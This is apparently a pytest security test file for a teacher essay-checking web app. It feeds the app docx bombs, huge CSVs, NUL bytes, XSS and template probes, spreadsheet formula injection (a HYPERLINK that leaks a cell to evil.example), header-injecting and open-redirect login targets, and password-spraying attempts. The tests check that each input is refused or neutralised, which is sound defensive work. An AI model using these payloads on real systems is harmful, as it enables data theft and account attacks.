"""The teacher workspace against hostile input: bombs, huge CSVs, NUL bytes, formula cells, log-in attacks."""
from __future__ import annotations

import csv
import io
import re
import statistics
import time
import tracemalloc

import pytest
from sqlalchemy import func, select

import hostile
from support import CMC_PACK, TEACHER_PASSWORD, login, make_teacher, pack_assignment, upload_batch
from webapp.db import db
from webapp.jobs import drain
from webapp.models import Assignment, Batch, Essay, Source
from webapp.uploads import UploadRefused, read_upload

pytestmark = pytest.mark.integration
GOOD = "On 16 October 1962 President Kennedy was informed about the missile bases on Cuba. Essay {i}."


def counts(app) -> tuple[int, int, int]:
    with app.app_context():
        return tuple(db.session.scalar(select(func.count()).select_from(m)) for m in (Assignment, Batch, Essay))


def batch_id(response) -> int:
    return int(response.headers["Location"].rstrip("/").split("/")[-1])


@pytest.fixture
def ann(workspace):
    make_teacher(workspace, "ann@school.org")
    return login(workspace, "ann@school.org")


# -- uploads -------------------------------------------------------------------------------------

def test_a_docx_bomb_in_a_batch_is_listed_and_the_rest_marked(workspace, ann):
    aid = pack_assignment(ann)
    r = upload_batch(ann, aid, "10A", [(GOOD.format(i=1).encode(), "anna.txt"), (hostile.docx_bomb(20), "bomb.docx")])
    page = ann.get(f"/teacher/batches/{batch_id(r)}").get_data(as_text=True)
    assert "bomb.docx" in page and "expands to 20 MB of XML" in page
    with workspace.app_context():
        assert db.session.scalar(select(func.count()).select_from(Essay)) == 1


def test_a_docx_bomb_as_a_source_is_refused_and_nothing_is_stored(workspace, ann):
    before = counts(workspace)
    r = ann.post("/teacher/assignments/new", data={"title": "T", "pack": "", "mode": "hint", "date_order": "day-first",
                                                   "sources": [(io.BytesIO(hostile.docx_bomb(20, 14)), "s.docx")]},
                 content_type="multipart/form-data")
    assert r.status_code == 422 and "compressed in a way Word does not use" in r.get_data(as_text=True)
    assert counts(workspace) == before


def test_a_source_about_the_1st_century_makes_an_assignment(workspace, ann):
    text = "The town was founded in the 1st century. In 1962 Kennedy was informed about the missile bases."
    r = ann.post("/teacher/assignments/new", data={"title": "Old", "pack": "", "mode": "hint",
                                                   "date_order": "day-first",
                                                   "sources": [(io.BytesIO(text.encode()), "a.txt"),
                                                               (io.BytesIO(text.encode()), "a.txt")]},
                 content_type="multipart/form-data")
    assert r.status_code == 302
    with workspace.app_context():
        assert sorted(s.name for s in db.session.scalars(select(Source))) == ["a (2).txt", "a.txt"]


@pytest.mark.parametrize(("case", "data", "message"), [
    ("a million empty rows", b"student,essay\n" + b",\n" * 1_000_000, "over 1,000 empty rows"),
    ("a million rows", b"student,essay\n" + b"Ann,In 1962 Kennedy was told.\n" * 1_000_000, "over 500 rows"),
    ("a cell over 131,072 characters", hostile.csv_of([("Ann", "x " * 70_000)]), "a cell over 131,072 characters"),
])
def test_a_csv_past_the_limits_is_refused_whole_with_a_clear_message(workspace, ann, case, data, message):
    aid = pack_assignment(ann)
    before = counts(workspace)
    r = upload_batch(ann, aid, "10A", [(data, "class.csv")], follow_redirects=True)
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "Nothing was uploaded" in page and message in page
    assert counts(workspace) == before


def test_a_csv_is_refused_at_the_first_row_past_the_limit_not_after_reading_it_all():
    data = b"student,essay\n" + b"Ann,In 1962 Kennedy was told about the bases.\n" * 1_000_000
    tracemalloc.start()
    try:
        with pytest.raises(UploadRefused, match="over 500 rows"):
            read_upload([("class.csv", data)])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * len(data), f"{peak / 1e6:.0f} MB to refuse a {len(data) / 1e6:.0f} MB CSV"


def test_an_upload_name_a_batch_name_and_a_title_with_nul_are_stored_clean(workspace, ann):
    r = ann.post("/teacher/assignments/new", data={"title": "Cuba\x00crisis", "pack": "cuban-missile-crisis",
                                                   "mode": "hint", "date_order": "day-first"})
    assert r.status_code == 302
    aid = batch_id(r)
    r = upload_batch(ann, aid, "10\x00A", [(GOOD.format(i=1).encode(), "an\x00na.txt")])
    assert r.status_code == 302
    with workspace.app_context():
        assert db.session.get(Assignment, aid).title == "Cuba crisis"
        b = db.session.scalar(select(Batch))
        assert b.name == "10 A" and [e.filename for e in b.essays] == ["an na.txt"]
    assert "Cuba crisis" in ann.get("/teacher/").get_data(as_text=True)


# -- marking -------------------------------------------------------------------------------------

def test_an_essay_about_the_1st_century_does_not_fail_its_batch(workspace, ann):
    aid = pack_assignment(ann)
    files = [(GOOD.format(i=i).encode(), f"student_{i:02d}.txt") for i in range(15)]
    files.append((b"The Romans came in the 1st century. In 1962 Kennedy was informed.", "roman.txt"))
    bid = batch_id(upload_batch(ann, aid, "10A", files))
    with workspace.app_context():
        drain()
    assert ann.get(f"/teacher/batches/{bid}/progress.json").json == {
        "total": 16, "done": 16, "failed": 0, "waiting": 0, "finished": 16, "complete": True}


HOSTILE_TEXTS = [
    "in the 1st century", "the 0th century", "the early 29th century", "On 31 February 1962", "1962-13-45",
    "on 0000-01-01", "in the year 0", "ten centuries before the siege", "the 99th of October",
    "about -5 miles", "1e309 kilometres", "9" * 400, "\r\n\r", "\u202e", "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\")", "%s%s%n", "{{7*7}}", "Kennedy " * 200, "\u0301" * 100,
]


def test_hostile_essays_in_a_batch_are_each_marked_and_leave_the_rest_alone(workspace, ann):
    """Essays made of the inputs that once broke the checker (a 1st century, a year 0, huge numbers,
    control and combining characters; a NUL byte makes a file binary, refused at upload), each with a sentence to check, marked in one batch with good
    essays: every essay gets a report, none is lost or failed as 'could not be checked'."""
    aid = pack_assignment(ann)
    files = [(GOOD.format(i=i).encode(), f"student_{i:02d}.txt") for i in range(6)]
    files += [(f"In 1962 Kennedy was informed. {h} Then six days later the blockade began.".encode(),
               f"hostile_{n:02d}.txt") for n, h in enumerate(HOSTILE_TEXTS)]
    bid = batch_id(upload_batch(ann, aid, "10A", files))
    with workspace.app_context():
        drain()
        essays = db.session.get(Batch, bid).essays
        outcome = {e.filename: (e.status, e.error) for e in essays}
    assert set(outcome) == {name for _, name in files}
    assert all(status == "done" for status, _ in outcome.values()), {f: o for f, o in outcome.items() if o[0] != "done"}
    progress = ann.get(f"/teacher/batches/{bid}/progress.json").json
    assert (progress["done"], progress["failed"], progress["complete"]) == (len(files), 0, True)


# -- exports -------------------------------------------------------------------------------------

def test_exports_neutralise_cells_a_spreadsheet_would_run(workspace, ann):
    aid = pack_assignment(ann)
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "Plain"]
    data = hostile.csv_of([(n, GOOD.format(i=i)) for i, n in enumerate(names)])
    bid = batch_id(upload_batch(ann, aid, "10A", [(data, "class.csv")]))
    with workspace.app_context():
        drain()
        first = db.session.scalar(select(Essay).where(Essay.student == "Plain"))
        eid = first.id
    ann.post(f"/teacher/essays/{eid}", data={"comment": "=1+1 well done"})
    rows = list(csv.DictReader(io.StringIO(ann.get(f"/teacher/batches/{bid}/export.csv").get_data(as_text=True))))
    students = {r["student"] for r in rows}
    assert students == {"'" + n if n[0] in "=+-@" else n for n in names if n != "\tTab"} | {"Tab"}
    assert [r["comment"] for r in rows if r["student"] == "Plain"] == ["'=1+1 well done"]
    report = ann.get(f"/teacher/batches/{bid}/report.csv").get_data(as_text=True)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(report)) for cell in row)


# -- logging in and out --------------------------------------------------------------------------

def test_a_next_address_with_a_line_break_goes_to_the_dashboard(workspace):
    make_teacher(workspace, "ann@school.org")
    c = workspace.test_client()
    for target in ("/teacher/%0d%0aSet-Cookie:x=1", "/teacher/\r\nX: y", "/\\evil.example/", "//evil.example/"):
        r = c.post("/teacher/login?next=" + target.replace("\r", "%0d").replace("\n", "%0a"),
                   data={"email": "ann@school.org", "password": TEACHER_PASSWORD})
        assert r.status_code == 302, target
        assert r.headers["Location"] in ("/teacher/", target), target
        assert "\n" not in r.headers["Location"] and "evil" not in r.headers["Location"]
        c.post("/teacher/logout")


def test_logging_out_ends_the_session_even_for_a_copied_cookie(workspace):
    make_teacher(workspace, "ann@school.org")
    c = login(workspace, "ann@school.org")
    cookie = c.get_cookie("session").value
    assert c.get("/teacher/").status_code == 200
    assert c.post("/teacher/logout").status_code == 302
    thief = workspace.test_client()
    thief.set_cookie("session", cookie)
    r = thief.get("/teacher/")
    assert r.status_code == 302 and "/teacher/login" in r.headers["Location"]
    assert login(workspace, "ann@school.org").get("/teacher/").status_code == 200  # a new log-in works


def test_log_in_is_throttled_per_account_and_per_client(nlp, database_url):
    from webapp import create_app
    from webapp.operations import limiter

    app = create_app({"TESTING": True, "WTF_CSRF_ENABLED": False, "SECRET_KEY": "test", "RATELIMIT_ENABLED": True,
                      "SQLALCHEMY_DATABASE_URI": database_url, "ESSAYCHECK_LOGIN_LIMIT": "8 per minute",
                      "ESSAYCHECK_LOGIN_ACCOUNT_LIMIT": "3 per minute"})
    make_teacher(app, "ann@school.org")
    with app.app_context():
        limiter.reset()  # counts from other tests in this process
    guesser = app.test_client()
    wrong = [guesser.post("/teacher/login", data={"email": "ANN@school.org", "password": f"guess {i}"},
                          environ_base={"REMOTE_ADDR": f"10.0.0.{i}"}).status_code for i in range(5)]
    assert wrong == [401, 401, 401, 429, 429]  # spread over five clients: the account still stops
    right = guesser.post("/teacher/login", data={"email": "ann@school.org", "password": TEACHER_PASSWORD})
    assert right.status_code == 429 and "Too many log-in attempts" in right.get_data(as_text=True)
    sprayer = app.test_client()
    sprayed = [sprayer.post("/teacher/login", data={"email": f"user{i}@school.org", "password": "x"},
                            environ_base={"REMOTE_ADDR": "10.9.9.9"}).status_code for i in range(10)]
    assert sprayed == [401] * 8 + [429] * 2  # many accounts from one client: the client stops


def test_an_unknown_address_takes_as_long_as_a_wrong_password(workspace):
    """Response time must not tell which addresses have accounts (87 ms against 5 ms before)."""
    make_teacher(workspace, "ann@school.org")
    c = workspace.test_client()

    def seconds(email: str) -> float:
        start = time.perf_counter()
        assert c.post("/teacher/login", data={"email": email, "password": "wrong"}).status_code == 401
        return time.perf_counter() - start

    seconds("nobody@school.org")  # warm up
    known = statistics.median(seconds("ann@school.org") for _ in range(7))
    unknown = statistics.median(seconds(f"nobody{i}@school.org") for i in range(7))
    assert unknown > known / 2, f"unknown {unknown * 1000:.0f} ms, known {known * 1000:.0f} ms"


@pytest.mark.parametrize("rubric", ["a = " + "[" * 5000 + "]" * 5000, "criterion = 5",
                                    (CMC_PACK.parents[0] / "default.toml").read_text().replace("weight = 1",
                                                                                               "weight = 'heavy'", 1)])
def test_a_rubric_nested_too_deep_or_of_the_wrong_types_is_refused_with_a_message(workspace, ann, rubric):
    aid = pack_assignment(ann)
    r = ann.post(f"/teacher/assignments/{aid}/rubric/import", data={"toml": rubric})
    assert r.status_code == 422 and "rubric:" in r.get_data(as_text=True)
